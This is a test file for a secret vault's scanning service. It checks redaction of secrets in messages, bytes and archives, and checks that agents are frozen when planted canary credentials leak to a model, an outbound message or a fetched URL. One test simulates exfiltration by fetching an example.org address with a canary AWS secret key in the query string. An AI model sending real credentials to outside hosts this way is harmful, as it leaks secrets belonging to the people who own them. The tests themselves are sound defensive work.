import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createVaultWorld, type HostAnswer, type VaultWorld } from '../../testing/vault-world.ts';

const KEY = 'sk-scan-canary-7Kd0Qz81MbXv';
let world: VaultWorld;
beforeEach(async () => {
  world = await createVaultWorld();
  await world.owner.putSecret('provider.openai', Buffer.from(KEY));
});
afterEach(() => world[Symbol.asyncDispose]());

const scan = async (messages: string[][], more: object = {}): Promise<HostAnswer> =>
  world.host('/scan', { method: 'POST', body: JSON.stringify({ messages, ...more }) });
const bytes = (body: Buffer): Promise<HostAnswer> => world.host('/scan-bytes', { method: 'POST', body });
const code = (answer: HostAnswer): unknown => JSON.parse(answer.text).code;

/** The canaries of an agent, as they are laid out for it. */
async function canariesOf(agent: string): Promise<Record<string, string>> {
  const { text } = JSON.parse((await world.host(`/canaries/${agent}`)).text);
  return Object.fromEntries([...text.matchAll(/^(\w+) = (\S+)$/gm)].map(([, name, value]) => [name, value]));
}
const frozen = async (): Promise<{ agent: string; source: string; reason: string }[]> =>
  JSON.parse((await world.host('/freeze')).text).frozen;

describe('POST /scan', () => {
  it('takes out what the host does not know, and leaves the rest to the host', async () => {
    const half = [KEY.slice(0, 13), KEY.slice(13)];
    const answer = await scan([['nothing'], [`key=${KEY}`, 'x'], half, [Buffer.from(`a${KEY}`).toString('base64')]]);
    const { messages, found } = JSON.parse(answer.text);
    expect(messages[0]).toBeNull();
    expect(messages[1]).toEqual(['key=[secret]', 'x']);
    expect(messages[2]).toEqual(['[secret]', '[secret]']);
    expect(messages[3][0]).toContain('[secret]');
    expect(found).toBeGreaterThanOrEqual(4);
  });

  it('knows new secrets at once, and says nothing of a text it knew to be clean', async () => {
    const text = 'a-value-that-will-be-secret-0987';
    expect(JSON.parse((await scan([[text]])).text).messages).toEqual([null]);
    await world.owner.putSecret('later', Buffer.from(text));
    expect(JSON.parse((await scan([[text]])).text).messages).toEqual([['[secret]']]);
    await world.owner.deleteSecret('later');
    expect(JSON.parse((await scan([[text]])).text).messages).toEqual([null]);
  });

  it('says that it cannot look while the vault is locked, and refuses what is too much', async () => {
    expect(code(await scan([]))).toBe('bad-request');
    expect(code(await scan([['x'.repeat(4_194_305)]]))).toBe('too-large');
    await world.owner.setPassphrase(Buffer.from('long passphrase'));
    await world.restart();
    expect(code(await scan([[KEY]]))).toBe('vault.locked');
    expect(code(await bytes(Buffer.from(KEY)))).toBe('vault.locked');
  });
});

describe('POST /scan-bytes', () => {
  it('cleans text, bytes, archives and files too long to be looked into whole', async () => {
    expect((await bytes(Buffer.from(`a ${KEY} b`))).text).toBe('a [secret] b');
    const plain = randomBytes(5_000);
    expect((await bytes(plain)).body.equals(plain)).toBe(true);
    const mixed = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(KEY), randomBytes(100)]);
    expect((await bytes(mixed)).body.includes(KEY)).toBe(false);
    const archive = Buffer.concat([randomBytes(10), gzipSync(`log ${KEY}`)]);
    expect((await bytes(archive)).text).toBe('[secret]');
    const long = Buffer.alloc(70_000_000, 'abcdefgh ');
    long.write(KEY, 67_108_860);
    const answer = await bytes(long);
    expect(answer.body.includes(KEY)).toBe(false);
    expect(answer.body.length).toBe(long.length - KEY.length + '[secret]'.length);
  }, 60_000);
});

describe('canaries', () => {
  it('look real, differ from agent to agent, stay the same, and are granted to nobody', async () => {
    const mine = await canariesOf('scout');
    expect(mine.aws_access_key_id).toMatch(/^AKIA[A-Z2-7]{16}$/);
    expect(mine.github_token).toMatch(/^ghp_[A-Za-z0-9]{36}$/);
    await world.restart();
    expect(await canariesOf('scout')).toEqual(mine);
    expect(await canariesOf('other')).not.toEqual(mine);
    expect(JSON.parse((await world.host('/credentials')).text).credentials).toEqual([]);
    expect(JSON.parse((await world.host('/agent-credentials/scout')).text).credentials).toEqual([]);
    await world.owner.setPassphrase(Buffer.from('long passphrase'));
    await world.restart();
    await world.owner.unlock(Buffer.from('long passphrase'));
    expect(await canariesOf('scout')).toEqual(mine);
  });

  it('may be read, and freeze an agent that sends one to a model', async () => {
    await world.owner.putProvider('local', { wire: 'openai-chat', baseUrl: 'http://127.0.0.1:9' });
    const { github_token: token = '' } = await canariesOf('tester');
    expect(JSON.parse((await scan([[token]], { agent: 'tester' })).text).messages).toEqual([null]);
    expect(await frozen()).toEqual([]);
    const body = { model: 'm', messages: [{ role: 'user', content: Buffer.from(token).toString('hex') }] };
    const refused = await world.model('local/chat/completions', body);
    expect(refused.error?.code).toBe('vault.frozen');
    expect(await frozen()).toMatchObject([
      { agent: 'tester', source: 'canary', reason: expect.stringContaining('a model call') },
    ]);
    const { events } = JSON.parse((await world.host('/audit-events')).text);
    expect(events.at(-1)).toMatchObject({ action: 'canary', target: 'tester', outcome: 'a model call' });
  });

  it('freeze whoever fetches an address with one, also one of another agent', async () => {
    const { aws_secret_access_key: key = '' } = await canariesOf('other');
    const url = `http://example.org/?q=${encodeURIComponent(key)}`;
    const answer = await world.host('/fetch', { method: 'POST', body: JSON.stringify({ agent: 'scout', url }) });
    expect(code(answer)).toBe('vault.frozen');
    expect((await frozen()).map(({ agent }) => agent)).toEqual(['scout']);
  });

  it('freeze an agent whose outbound message has one, cut in pieces too', async () => {
    const { stripe_key: key = '' } = await canariesOf('scout');
    const text = `first ${key.slice(0, 11)} then ${key.slice(11, 22)} and ${key.slice(22)}`;
    expect(code(await scan([[text]], { agent: 'scout', outbound: true }))).toBe('vault.frozen');
    expect((await frozen()).map(({ agent }) => agent)).toEqual(['scout']);
  });

  it('do not freeze for anything else', async () => {
    await canariesOf('scout');
    await scan([['ghp_ is how tokens of GitHub begin; AKIA those of AWS']], { agent: 'scout', outbound: true });
    expect(await frozen()).toEqual([]);
  });
});
